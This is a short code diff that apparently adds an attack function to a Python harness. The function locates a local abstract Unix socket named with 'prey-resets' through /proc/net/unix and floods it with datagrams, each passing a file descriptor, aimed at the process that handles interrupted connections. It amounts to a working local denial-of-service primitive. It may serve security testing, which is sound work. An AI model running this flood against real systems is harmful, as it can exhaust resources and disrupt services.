@@ -134,4 +134,14 @@ def tells():
     return answer(s)
 
 
+def floods():
+    """So many datagrams with a descriptor each, to the process that answers interrupted connections."""
+    name = next(line.split()[-1] for line in open("/proc/net/unix") if "@prey-resets/" in line)
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    s.connect("\0" + name[1:])
+    for _ in range(PORT):
+        socket.send_fds(s, [b"x"], [s.fileno()])
+    return "sent"
+
+
 print(globals()[WHAT]())
